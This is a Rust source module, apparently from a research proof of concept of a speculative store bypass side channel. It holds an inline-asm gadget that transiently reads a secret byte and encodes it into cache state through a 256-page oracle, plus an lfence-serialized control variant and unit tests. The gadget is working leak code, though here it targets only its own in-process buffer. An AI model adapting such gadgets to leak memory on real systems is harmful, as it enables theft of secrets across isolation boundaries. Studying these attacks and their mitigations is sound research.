//! The critical path.
//!
//! Each variant is one asm block in a never-inlined function so that neither
//! the compiler nor a refactor can reorder, merge or drop the accesses.

use crate::layout::CovertLayout;
use core::arch::asm;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum GadgetVariant {
    /// No barrier between the store and the dependent load.
    #[default]
    Bypass,
    /// `cpuid; lfence` between the store and the dependent load, the store
    /// address is resolved before the load can issue.
    Serialized,
}

/// Run one trial of the gadget on byte `index` of the secret.
///
/// Architecturally this stores the decoy address into the dependency cell and
/// reads the oracle region of the decoy byte. The only trace of the secret is
/// in the cache.
///
/// The layout must have been armed by [`crate::conditioner::prepare_trial`].
pub fn run(layout: &CovertLayout, index: usize, variant: GadgetVariant) {
    assert!(index < layout.secret_len(), "index {} out of the secret", index);
    let flushy = layout.indirection_cell();
    let slot = layout.dependency_cell();
    let decoy = layout.decoy();
    let oracle = layout.oracle_base();
    let sink = layout.sink();
    // Both sources are secret_len long and every byte value has an oracle
    // region, whichever pointer the load observes stays in bounds.
    unsafe {
        match variant {
            GadgetVariant::Bypass => bypass(flushy, decoy, slot, index, oracle, sink),
            GadgetVariant::Serialized => serialized(flushy, decoy, slot, index, oracle, sink),
        }
    }
}

/// # Safety
///
/// `flushy` must point at `slot`, `slot` must point at a buffer longer than
/// `index`, and so must `decoy`. `oracle` must have 256 regions of 4 KiB.
#[inline(never)]
unsafe fn bypass(
    flushy: *mut *mut *const u8,
    decoy: *const u8,
    slot: *mut *const u8,
    index: usize,
    oracle: *mut u8,
    sink: *mut u8,
) {
    unsafe {
        asm!(
            "mov {slow}, qword ptr [{flushy}]",
            "mov qword ptr [{slow}], {decoy}",
            "mov {v}, qword ptr [{slot}]",
            "movzx {v:e}, byte ptr [{v} + {index}]",
            "shl {v}, 12",
            "movzx {v:e}, byte ptr [{oracle} + {v}]",
            "mov byte ptr [{sink}], {v:l}",
            flushy = in(reg) flushy,
            decoy = in(reg) decoy,
            slot = in(reg) slot,
            index = in(reg) index,
            oracle = in(reg) oracle,
            sink = in(reg) sink,
            slow = out(reg) _,
            v = out(reg) _,
            options(nostack),
        )
    };
}

/// Same as [`bypass`] with a full serialisation after the store.
///
/// # Safety
///
/// See [`bypass`].
#[inline(never)]
unsafe fn serialized(
    flushy: *mut *mut *const u8,
    decoy: *const u8,
    slot: *mut *const u8,
    index: usize,
    oracle: *mut u8,
    sink: *mut u8,
) {
    // `slow` is dead after the store, it holds rbx across cpuid.
    unsafe {
        asm!(
            "mov {slow}, qword ptr [{flushy}]",
            "mov qword ptr [{slow}], {decoy}",
            "mov {slow}, rbx",
            "xor eax, eax",
            "cpuid",
            "mov rbx, {slow}",
            "lfence",
            "mov {v}, qword ptr [{slot}]",
            "movzx {v:e}, byte ptr [{v} + {index}]",
            "shl {v}, 12",
            "movzx {v:e}, byte ptr [{oracle} + {v}]",
            "mov byte ptr [{sink}], {v:l}",
            flushy = in(reg) flushy,
            decoy = in(reg) decoy,
            slot = in(reg) slot,
            index = in(reg) index,
            oracle = in(reg) oracle,
            sink = in(reg) sink,
            slow = out(reg) _,
            v = out(reg) _,
            out("eax") _,
            out("ecx") _,
            out("edx") _,
            options(nostack),
        )
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::conditioner::prepare_trial;
    use core::ptr::{read_volatile, write_volatile};

    fn architectural_effect(variant: GadgetVariant) {
        let layout = CovertLayout::new(b"0101").unwrap();
        for index in 0..layout.secret_len() {
            prepare_trial(&layout);
            unsafe { write_volatile(layout.sink(), 0xff) };
            run(&layout, index, variant);
            unsafe {
                assert_eq!(read_volatile(layout.dependency_cell()), layout.decoy());
                // the decoy region of the oracle is never written
                assert_eq!(read_volatile(layout.sink()), 0);
            }
        }
    }

    #[test]
    fn bypass_commits_the_decoy() {
        architectural_effect(GadgetVariant::Bypass);
    }

    #[test]
    fn serialized_commits_the_decoy() {
        architectural_effect(GadgetVariant::Serialized);
    }

    #[test]
    #[should_panic]
    fn index_past_the_secret_is_rejected() {
        let layout = CovertLayout::new(b"01").unwrap();
        prepare_trial(&layout);
        run(&layout, 2, GadgetVariant::Bypass);
    }
}
